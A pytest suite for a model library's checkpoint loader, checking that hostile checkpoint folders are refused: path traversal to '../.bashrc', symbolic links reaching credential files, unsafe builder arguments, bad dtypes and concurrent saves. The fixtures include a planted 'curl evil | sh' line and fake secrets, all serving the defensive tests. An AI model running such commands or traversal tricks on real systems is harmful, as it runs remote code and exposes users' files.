"""Checkpoint folders come from strangers and hold the user's work (issue 12).

Each test builds the hostile folder itself in tmp_path and checks three things: the error
is one clear line, nothing outside the folder changed, and no file zoo did not write was
replaced or deleted. Covered: writes outside the folder and symbolic links (12.1), user
files (12.4), reads during a save and concurrent writers (12.5), and the checkpoint-loading
medium bullets: builder arguments, empty or partial deltas, unexpected dtypes, and
non-finite tensors (12.9).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from conftest import TINY
from safetensors.torch import load as load_bytes
from safetensors.torch import load_file, save_file

import zoo
from zoo.cli import main
from zoo.core._io import file_sha256
from zoo.core.errors import CheckpointError, ZooError
from zoo.persist import checkpoint as ckpt
from zoo.persist.config import config_from_model
from zoo.persist.locks import LOCK_FILE, READ_LOCK_FILE

pytestmark = pytest.mark.usefixtures("one_torch_thread")

ROOT = Path(__file__).parents[1]


def one_line(exc: pytest.ExceptionInfo[BaseException]) -> str:
    text = str(exc.value)
    assert "\n" not in text and text, text
    return text


def snapshot(folder: Path) -> dict[str, bytes | str]:
    """Every entry under ``folder`` (links by target, files by content), to compare later."""
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = "-> " + os.readlink(path)
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


@pytest.fixture
def saved(tiny: zoo.Backbone, tmp_path: Path) -> Path:
    """A full checkpoint of the tiny backbone (3 classes) in its own folder."""
    torch.manual_seed(0)
    return zoo.save_checkpoint(zoo.create_model(tiny.name, num_classes=3),
                               tmp_path / "home" / "ckpt")


def rewrite_weights(directory: Path, tensors: dict[str, torch.Tensor]) -> None:
    """Replace model.safetensors and record its sha256, as a careful attacker would."""
    save_file(tensors, str(directory / ckpt.MODEL_FILE))
    config = json.loads((directory / ckpt.CONFIG_FILE).read_text())
    config["files"][ckpt.MODEL_FILE] = file_sha256(directory / ckpt.MODEL_FILE)
    (directory / ckpt.CONFIG_FILE).write_text(json.dumps(config))


def stage(directory: Path, marker: str, files: dict[str, bytes]) -> Path:
    """A staging folder as an interrupted save would leave it, with this COMPLETE text."""
    staging = directory / ckpt.STAGING
    staging.mkdir()
    for name, data in files.items():
        (staging / name).parent.mkdir(parents=True, exist_ok=True)
        (staging / name).write_bytes(data)
    (staging / "COMPLETE").write_text(marker)
    return staging


# --------------------------------------------------------------------------- 12.1 outside


LOADERS: dict[str, Callable[[Path], Any]] = {
    "load_checkpoint": zoo.load_checkpoint,
    "from_pretrained": zoo.from_pretrained,
    "push": lambda d: zoo.push_to_hub(d, "user/repo", token="hf_" + "x" * 34,
                                      endpoint="http://127.0.0.1:9"),
    "finetune --out": lambda d: zoo.finetune("tiny_cnn", "linear_probe", "digits",
                                             weights=None, output_dir=d, overwrite=True),
    "save_checkpoint": lambda d: zoo.save_checkpoint(zoo.create_model("tiny_cnn",
                                                                      num_classes=3), d),
}


@pytest.mark.parametrize("entry", sorted(LOADERS))
@pytest.mark.parametrize("marker", ["../.bashrc", '{"files": ["../.bashrc"], "remove": []}',
                                    '{"files": [], "remove": ["../.bashrc"]}'],
                         ids=["names", "json-move", "json-remove"])
@pytest.mark.slow
def test_complete_marker_cannot_name_a_file_outside_the_folder(entry: str, marker: str,
                                                               saved: Path) -> None:
    """Issue 12.1: a shipped ``.zoo-staging/COMPLETE`` naming ``../.bashrc`` (with its own
    ``.bashrc`` beside it) is refused by every entry point; the user's ~/.bashrc is untouched
    and nothing in the folder moved."""
    home = saved.parent
    (home / ".bashrc").write_text("the user's own shell setup\n")
    stage(saved, marker, {".bashrc": b"curl evil | sh\n"})
    before = snapshot(home)
    with pytest.raises(CheckpointError) as err:
        LOADERS[entry](saved)
    assert ".zoo-staging" in one_line(err) and "remove" in one_line(err)
    assert snapshot(home) == before


@pytest.mark.parametrize("command", [["evaluate", "{dir}", "--data", "digits"],
                                     ["predict", "{dir}", "image.png"]])
def test_cli_refuses_a_hostile_staging_folder_in_one_line(command: list[str], saved: Path,
                                                          capsys: pytest.CaptureFixture[str]
                                                          ) -> None:
    """Issue 12.1: ``zoo predict``/``zoo evaluate`` on such a folder exit 2 with one line."""
    (saved.parent / ".bashrc").write_text("mine\n")
    stage(saved, "../.bashrc", {".bashrc": b"evil\n"})
    assert main([part.format(dir=saved) for part in command]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("zoo: error:") and "\n" not in err and ".zoo-staging" in err
    assert (saved.parent / ".bashrc").read_text() == "mine\n"


def test_a_link_inside_the_folder_cannot_carry_a_write_outside(saved: Path,
                                                               tmp_path: Path) -> None:
    """Issue 12.1: ``t -> /any/dir`` in the folder with COMPLETE listing ``t/f`` writes
    nothing into /any/dir."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (saved / "t").symlink_to(victim)
    stage(saved, "t/f", {"t/f": b"planted\n"})
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(saved)
    one_line(err)
    assert list(victim.iterdir()) == []


@pytest.mark.parametrize("case", ["staging-is-a-link", "staged-file-is-a-link",
                                  "target-is-a-link"])
def test_links_in_a_staged_save_are_refused_not_followed(case: str, saved: Path,
                                                         tmp_path: Path) -> None:
    """Issue 12.1: the staging folder, a staged file and the file it replaces may not be
    symbolic links: zoo refuses instead of moving, reading or writing through them."""
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "credentials"
    secret.write_text("aws_secret_access_key = s3cr3t\n")
    good = saved.parent / "good"
    shutil.copytree(saved, good)
    complete = "\n".join(ckpt.CHECKPOINT_FILES[:4])
    if case == "staging-is-a-link":
        staging = outside / "staging"
        shutil.copytree(good, staging)
        (staging / "COMPLETE").write_text(complete)
        (saved / ckpt.STAGING).symlink_to(staging)
    elif case == "staged-file-is-a-link":
        staging = stage(saved, complete, {n: (good / n).read_bytes()
                                          for n in ckpt.CHECKPOINT_FILES[1:4]})
        (staging / ckpt.MODEL_FILE).symlink_to(secret)
    else:
        stage(saved, complete, {n: (good / n).read_bytes() for n in ckpt.CHECKPOINT_FILES[:4]})
        (saved / ckpt.METRICS_FILE).unlink()
        (saved / ckpt.METRICS_FILE).symlink_to(secret)
    before = snapshot(tmp_path / "outside")
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(saved)
    assert "link" in one_line(err) and "s3cr3t" not in one_line(err)
    assert snapshot(tmp_path / "outside") == before


@pytest.mark.parametrize("name", [ckpt.MODEL_FILE, ckpt.CONFIG_FILE])
def test_reading_never_follows_a_link_out_of_the_folder(name: str, saved: Path,
                                                        tmp_path: Path) -> None:
    """Issue 12.1: a checkpoint file that links out of the folder is refused; a link to a
    file inside the folder still loads."""
    inside = saved / "weights"
    inside.mkdir()
    os.replace(saved / name, inside / name)
    (saved / name).symlink_to(Path("weights") / name)
    zoo.load_checkpoint(saved)  # stays inside: fine
    outside = tmp_path / name
    shutil.copy(inside / name, outside)
    (saved / name).unlink()
    (saved / name).symlink_to(outside)
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(saved)
    assert "symbolic link that leaves the checkpoint folder" in one_line(err)


def test_a_hub_cache_snapshot_may_link_only_into_its_own_blobs(saved: Path,
                                                               tmp_path: Path) -> None:
    """Issue 12.1: in a Hugging Face cache layout (``snapshots/<commit>/`` files linking to
    ``../../blobs/``) links into the repo's blobs load; one that leaves them is refused."""
    repo = tmp_path / "models--user--repo"
    snapshot_dir = repo / "snapshots" / ("0" * 40)
    (repo / "blobs").mkdir(parents=True)
    snapshot_dir.mkdir(parents=True)
    for name in (ckpt.MODEL_FILE, ckpt.CONFIG_FILE):
        blob = repo / "blobs" / file_sha256(saved / name)
        shutil.copy(saved / name, blob)
        (snapshot_dir / name).symlink_to(Path("..", "..", "blobs", blob.name))
    zoo.load_checkpoint(snapshot_dir)
    (snapshot_dir / ckpt.MODEL_FILE).unlink()
    (snapshot_dir / ckpt.MODEL_FILE).symlink_to(saved / ckpt.MODEL_FILE)
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(snapshot_dir)
    assert "leaves the checkpoint folder" in one_line(err)


def test_push_never_uploads_a_file_linked_out_of_the_folder(saved: Path,
                                                           tmp_path: Path) -> None:
    """Issue 12.1: a ``history.json`` linked to a credentials file stops the push before
    any request (the endpoint here is a closed port), and the secret is not echoed."""
    zoo.save_checkpoint(zoo.load_checkpoint(saved), saved, history=[{"epoch": 1}])
    secret = tmp_path / "token"
    secret.write_text("hf_supersecretvalue\n")
    (saved / ckpt.HISTORY_FILE).unlink()
    (saved / ckpt.HISTORY_FILE).symlink_to(secret)
    with pytest.raises(CheckpointError) as err:
        zoo.push_to_hub(saved, "user/repo", token="hf_" + "x" * 34,
                        endpoint="http://127.0.0.1:9")
    assert "history.json" in one_line(err) and "supersecret" not in one_line(err)


def test_only_the_files_config_lists_are_part_of_the_checkpoint(saved: Path) -> None:
    """Issue 12.1: a history.json that the save did not write (config.json does not list
    it) is not opened, so push would not upload it."""
    (saved / ckpt.HISTORY_FILE).write_text('{"planted": true}')
    with ckpt.open_checkpoint(saved, ckpt.CHECKPOINT_FILES) as (config, handles):
        assert set(handles) == {ckpt.MODEL_FILE, ckpt.CONFIG_FILE, ckpt.METRICS_FILE,
                                ckpt.CARD_FILE}
        assert set(config["files"]) == {ckpt.MODEL_FILE, ckpt.METRICS_FILE, ckpt.CARD_FILE}


# --------------------------------------------------------------------------- 12.4 user files


def finetune_cli(out: Path, *extra: str) -> list[str]:
    return ["finetune", "--backbone", "tiny_cnn", "--strategy", "linear_probe", "--data",
            "digits", "--weights", "none", "--epochs", "1", "--limit-per-class", "2",
            "--image-size", "8", "--quiet", "--out", str(out), *extra]


def test_finetune_out_never_overwrites_a_users_folder(tiny: zoo.Backbone, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str],
                                                      monkeypatch: pytest.MonkeyPatch
                                                      ) -> None:
    """Issue 12.4: ``zoo finetune --out .`` in a project folder with its own README.md and
    config.json stops before training, with one line, and changes nothing (``--overwrite``
    does not make it a zoo folder either)."""
    project = tmp_path / "project"
    project.mkdir()
    (project / "README.md").write_text("# my project\n")
    (project / "config.json").write_text('{"my": "settings"}\n')
    before = snapshot(project)
    monkeypatch.chdir(project)
    started = time.perf_counter()
    for extra in ((), ("--overwrite",)):
        assert main(finetune_cli(Path("."), *extra)) == 2
        err = capsys.readouterr().err.strip()
        assert "\n" not in err and "is not empty" in err and "not a zoo checkpoint" in err
    assert time.perf_counter() - started < 5  # refused before loading data or training
    assert snapshot(project) == before


@pytest.mark.slow
def test_finetune_into_an_existing_checkpoint_needs_overwrite(tiny: zoo.Backbone,
                                                              tmp_path: Path,
                                                              capsys: pytest.CaptureFixture[str]
                                                              ) -> None:
    """Issue 12.4: a second run into the same --out is refused before training unless
    ``--overwrite``; a file named as --out is refused too."""
    out = tmp_path / "run"
    assert main(finetune_cli(out)) == 0
    capsys.readouterr()
    before = snapshot(out)
    assert main(finetune_cli(out)) == 2
    err = capsys.readouterr().err
    assert "already holds a zoo checkpoint" in err and "--overwrite" in err
    assert snapshot(out) == before
    assert main(finetune_cli(out, "--overwrite", "--seed", "1")) == 0
    assert snapshot(out)[ckpt.MODEL_FILE] != before[ckpt.MODEL_FILE]
    (tmp_path / "file").write_text("not a folder")
    assert main(finetune_cli(tmp_path / "file")) == 2
    assert "file" in capsys.readouterr().err


def test_save_checkpoint_refuses_a_folder_of_other_files(tiny: zoo.Backbone,
                                                         tmp_path: Path) -> None:
    """Issue 12.4: save_checkpoint into a folder that holds the user's files (not a zoo
    checkpoint) is refused and writes nothing, not even a lock file."""
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "history.json").write_text("[my history]")
    before = snapshot(folder)
    with pytest.raises(CheckpointError) as err:
        zoo.save_checkpoint(zoo.create_model(tiny.name, num_classes=3), folder)
    assert "not a zoo checkpoint" in one_line(err)
    assert snapshot(folder) == before


@pytest.mark.slow
def test_a_save_deletes_only_the_files_zoo_wrote(saved: Path) -> None:
    """Issue 12.4: re-saving never deletes (nor replaces) a history.json zoo did not write;
    its own history.json from an earlier save is removed when the new save has none."""
    model = zoo.load_checkpoint(saved)
    (saved / ckpt.HISTORY_FILE).write_text("[the user's notes]")
    zoo.save_checkpoint(model, saved)
    assert (saved / ckpt.HISTORY_FILE).read_text() == "[the user's notes]"
    with pytest.raises(CheckpointError) as err:
        zoo.save_checkpoint(model, saved, history=[{"epoch": 1}])
    assert "not written by zoo" in one_line(err)
    assert (saved / ckpt.HISTORY_FILE).read_text() == "[the user's notes]"

    (saved / ckpt.HISTORY_FILE).unlink()
    zoo.save_checkpoint(model, saved, history=[{"epoch": 1}])
    assert json.loads((saved / ckpt.HISTORY_FILE).read_text()) == [{"epoch": 1}]
    zoo.save_checkpoint(model, saved)  # zoo's own, now stale: removed
    assert not (saved / ckpt.HISTORY_FILE).exists()


# --------------------------------------------------------------------------- 12.5 concurrency

SAVER = textwrap.dedent("""
    import sys, torch, zoo
    from conftest import TINY, registered
    torch.set_num_threads(1)
    with registered(TINY):
        model = zoo.create_model(TINY.name, num_classes=3)
        for i in range(int(sys.argv[2]), int(sys.argv[3])):
            with torch.no_grad():
                for p in model.parameters():
                    p.fill_(float(i))
            history = [{"i": i}] if i % 2 else None  # history.json comes and goes
            zoo.save_checkpoint(model, sys.argv[1], metrics={"i": i}, history=history)
            print(i, flush=True)
""")


def start_saver(tmp_path: Path, target: Path, first: int, stop: int) -> subprocess.Popen[str]:
    script = tmp_path / "saver.py"
    script.write_text(SAVER)
    env = dict(os.environ, PYTHONPATH=f"{ROOT}{os.pathsep}{ROOT / 'tests'}", OMP_NUM_THREADS="1")
    return subprocess.Popen([sys.executable, str(script), str(target), str(first), str(stop)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)


def read_once(target: Path) -> int:
    """One consistent read: the weights, metrics.json and history.json of one save."""
    with ckpt.open_checkpoint(target, ckpt.CHECKPOINT_FILES) as (config, handles):
        metrics = json.loads(handles[ckpt.METRICS_FILE].read())
        history = handles.get(ckpt.HISTORY_FILE)
        tensors = load_bytes(handles[ckpt.MODEL_FILE].read())
        i = metrics["i"]
        assert (history is not None) == bool(i % 2), (i, sorted(config["files"]))
        if history is not None:
            assert json.loads(history.read()) == [{"i": i}]
    assert all(bool((t == i).all()) for k, t in tensors.items()
               if t.is_floating_point() and "running" not in k), i
    model = zoo.load_checkpoint(target)
    values = {float(p.detach().flatten()[0]) for p in model.parameters()}
    assert len(values) == 1
    return i


@pytest.mark.slow
def test_readers_during_40_saves_see_whole_checkpoints(tiny: zoo.Backbone,
                                                       tmp_path: Path) -> None:
    """Issue 12.5: a reader loop (this process) while another process saves 40 times: no
    reader crashes or deletes the writer's staging folder, every read is one save's weights
    with that save's config, metrics and history, and the end state is the last save."""
    target = tmp_path / "ckpt"
    proc = start_saver(tmp_path, target, 0, 40)
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "0", proc.stderr and proc.stderr.read()
    seen = []
    while proc.poll() is None:
        seen.append(read_once(target))
    out, err = proc.communicate()
    assert proc.returncode == 0, err
    assert out.split()[-1] == "39"
    assert read_once(target) == 39
    assert not (target / ckpt.STAGING).exists()
    assert len(seen) >= 5 and seen == sorted(seen) and len(set(seen)) > 2, seen


@pytest.mark.slow
def test_a_second_writer_gets_a_clear_error(saved: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 12.5: while one save runs (held here just before its COMPLETE marker), a
    second save to the same folder is refused in one line, and readers still load the
    previous checkpoint whole; the first save then completes."""
    first = zoo.create_model("tiny_cnn", num_classes=3)
    second = zoo.create_model("tiny_cnn", num_classes=3)
    before = zoo.load_checkpoint(saved).state_dict()
    reached, release = threading.Event(), threading.Event()
    real = ckpt.write_text_atomic

    def slow_marker(path: Any, text: str) -> None:
        if Path(path).name == "COMPLETE" and threading.current_thread() is not main_thread:
            reached.set()
            assert release.wait(30)
        real(path, text)

    main_thread = threading.current_thread()
    monkeypatch.setattr(ckpt, "write_text_atomic", slow_marker)
    errors: list[BaseException] = []

    def save_first() -> None:
        try:
            zoo.save_checkpoint(first, saved)
        except BaseException as exc:  # reported below
            errors.append(exc)

    writer = threading.Thread(target=save_first)
    writer.start()
    try:
        assert reached.wait(30)
        with pytest.raises(CheckpointError) as err:
            zoo.save_checkpoint(second, saved)
        assert "another zoo process is saving to" in one_line(err)
        during = zoo.load_checkpoint(saved).state_dict()
        assert all(torch.equal(during[k], before[k]) for k in before)
        assert (saved / ckpt.STAGING).is_dir()  # the reader left the writer's files alone
    finally:
        release.set()
        writer.join(30)
    assert not errors
    after = zoo.load_checkpoint(saved).state_dict()
    assert all(torch.equal(after[k], v) for k, v in first.state_dict().items())


def test_a_reader_does_not_finish_a_save_whose_writer_is_alive(
        saved: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 12.5: a save paused after its COMPLETE marker (its writer alive) is not rolled
    forward by a reader: the reader sees the previous checkpoint, whole; the writer then
    finishes its own save."""
    new = zoo.create_model("tiny_cnn", num_classes=3)
    before = zoo.load_checkpoint(saved).state_dict()
    reached, release = threading.Event(), threading.Event()
    real = ckpt.recover
    writer_calls = 0

    def paused(directory: Any) -> None:
        nonlocal writer_calls
        if threading.current_thread().name == "writer":
            writer_calls += 1
            if writer_calls == 2:  # the final move into place
                reached.set()
                assert release.wait(30)
        real(directory)

    monkeypatch.setattr(ckpt, "recover", paused)
    writer = threading.Thread(target=zoo.save_checkpoint, args=(new, saved), name="writer")
    writer.start()
    try:
        assert reached.wait(30)
        assert (saved / ckpt.STAGING / "COMPLETE").is_file()
        during = zoo.load_checkpoint(saved).state_dict()
        assert all(torch.equal(during[k], before[k]) for k in before)
        assert (saved / ckpt.STAGING / "COMPLETE").is_file()
    finally:
        release.set()
        writer.join(30)
    after = zoo.load_checkpoint(saved).state_dict()
    assert all(torch.equal(after[k], v) for k, v in new.state_dict().items())


def make_read_only(paths: list[Path]) -> Callable[[], None]:
    """Make ``paths`` unwritable for this process and return the undo. Root ignores file
    modes, so as root the files are made immutable (chattr +i) instead."""
    if os.geteuid() != 0:
        for path in paths:
            path.chmod(0o555 if path.is_dir() else 0o444)
        return lambda: [path.chmod(0o755) for path in paths] and None
    chattr = shutil.which("chattr")
    if chattr is None or subprocess.run([chattr, "+i", *map(str, paths)],
                                        capture_output=True).returncode != 0:
        pytest.skip("running as root on a file system without chattr +i")
    return lambda: subprocess.run([chattr, "-i", *map(str, paths)], check=True) and None


@pytest.mark.parametrize("with_lock_files", [True, False], ids=["saved-here", "pulled"])
def test_a_read_only_folder_still_loads(with_lock_files: bool, saved: Path) -> None:
    """Issue 12.5: a folder the reader cannot write to (a pulled snapshot without lock
    files, a read-only copy of a saved one) loads without locks and creates nothing."""
    if not with_lock_files:
        for name in (LOCK_FILE, READ_LOCK_FILE):
            (saved / name).unlink()
    before = snapshot(saved)
    undo = make_read_only([saved, *saved.iterdir()])
    try:
        with pytest.raises(OSError):
            (saved / "probe").write_text("x")
        model = zoo.load_checkpoint(saved)
        assert model(torch.rand(2, 3, 16, 16)).shape == (2, 3)
        assert snapshot(saved) == before
    finally:
        undo()


def test_a_reader_creates_no_lock_file(saved: Path) -> None:
    """Issue 12.5: only writers create lock files, so loading a pulled snapshot leaves the
    Hub cache as it was."""
    for name in (LOCK_FILE, READ_LOCK_FILE):
        (saved / name).unlink()
    before = snapshot(saved)
    zoo.load_checkpoint(saved)
    assert snapshot(saved) == before


# --------------------------------------------------------------------------- medium: loading


@pytest.mark.slow
def test_builder_kwargs_from_a_checkpoint_must_be_declared_safe(tmp_path: Path) -> None:
    """Issue 12, medium: ``builder_kwargs: {"checkpoint_path": ...}`` in a timm checkpoint
    would make timm load any local file; only the backbone's ``checkpoint_kwargs`` pass."""
    pytest.importorskip("timm")
    name = "timm/test_efficientnet"
    model = zoo.create_model(name, num_classes=3, weights=None, drop_rate=0.1)
    model.zoo_config = {**config_from_model(model), "builder_kwargs": {"drop_rate": 0.1}}
    directory = zoo.save_checkpoint(model, tmp_path / "timm", kind="full")
    zoo.load_checkpoint(directory)  # a declared key loads
    secret = tmp_path / "secret.pth"
    torch.save({"not": torch.zeros(1)}, secret)
    config = json.loads((directory / ckpt.CONFIG_FILE).read_text())
    config["builder_kwargs"] = {"checkpoint_path": str(secret)}
    (directory / ckpt.CONFIG_FILE).write_text(json.dumps(config))
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(directory)
    assert "'checkpoint_path'" in one_line(err) and "drop_rate" in one_line(err)


def test_finetune_refuses_builder_kwargs_a_checkpoint_could_not_hold(tiny: zoo.Backbone,
                                                                      tmp_path: Path) -> None:
    """Issue 12, medium: a run with output_dir and builder arguments its backbone does not
    declare for checkpoints stops before training (its checkpoint would never load)."""
    with pytest.raises(ZooError) as err:
        zoo.finetune(tiny.name, "linear_probe", "digits", weights=None, epochs=1,
                     builder_kwargs={"bias": False}, output_dir=tmp_path / "run")
    assert "'bias'" in one_line(err)
    assert not (tmp_path / "run").exists()


@pytest.fixture
def delta(pretrained: Callable[..., str], tmp_path: Path) -> Path:
    """A delta checkpoint of a tiny pretrained base with a new 3-class head."""
    name = pretrained(TINY)
    torch.manual_seed(1)
    model = zoo.create_model(name, num_classes=3, weights="default")
    directory = zoo.save_checkpoint(model, tmp_path / "delta", kind="delta")
    assert set(load_file(directory / ckpt.MODEL_FILE)) == {"head.weight", "head.bias"}
    return directory


@pytest.mark.parametrize("keep", [[], ["head.bias"]], ids=["empty", "partial"])
def test_an_empty_or_partial_delta_is_refused(keep: list[str], delta: Path) -> None:
    """Issue 12, medium: a delta without the new head would load a random head, different
    at every load; it is refused (a whole delta loads the same model every time)."""
    a, b = zoo.load_checkpoint(delta).state_dict(), zoo.load_checkpoint(delta).state_dict()
    assert all(torch.equal(a[k], b[k]) for k in a)
    tensors = load_file(delta / ckpt.MODEL_FILE)
    rewrite_weights(delta, {k: tensors[k] for k in keep})
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(delta)
    assert ("empty delta" if not keep else "partial delta") in one_line(err)


@pytest.mark.parametrize(("tensor", "dtype"), [("head.weight", torch.float64),
                                               ("head.weight", torch.int64),
                                               ("stem.1.num_batches_tracked", torch.float32)])
def test_tensors_of_a_dtype_the_model_does_not_use_are_refused(tensor: str, dtype: torch.dtype,
                                                               saved: Path) -> None:
    """Issue 12, medium: an F64 or integer tensor for a float32 parameter (or a float for an
    integer buffer) is refused instead of cast silently; half precision still loads."""
    tensors = load_file(saved / ckpt.MODEL_FILE)
    rewrite_weights(saved, {**tensors, "head.bias": tensors["head.bias"].half()})
    assert zoo.load_checkpoint(saved).head.bias.dtype == torch.float32
    rewrite_weights(saved, {**tensors, tensor: tensors[tensor].to(dtype)})
    with pytest.raises(CheckpointError) as err:
        zoo.load_checkpoint(saved)
    assert "wrong dtypes" in one_line(err) and tensor in one_line(err)


def test_loading_non_finite_tensors_warns(saved: Path) -> None:
    """Issue 12.9: a checkpoint holding NaN or infinite values loads with a warning that
    says how many tensors are affected."""
    tensors = load_file(saved / ckpt.MODEL_FILE)
    tensors["head.weight"][0, 0] = float("nan")
    tensors["stem.0.weight"][0, 0, 0, 0] = float("inf")
    rewrite_weights(saved, tensors)
    with pytest.warns(RuntimeWarning, match="2 tensors with NaN or infinite values"):
        zoo.load_checkpoint(saved)
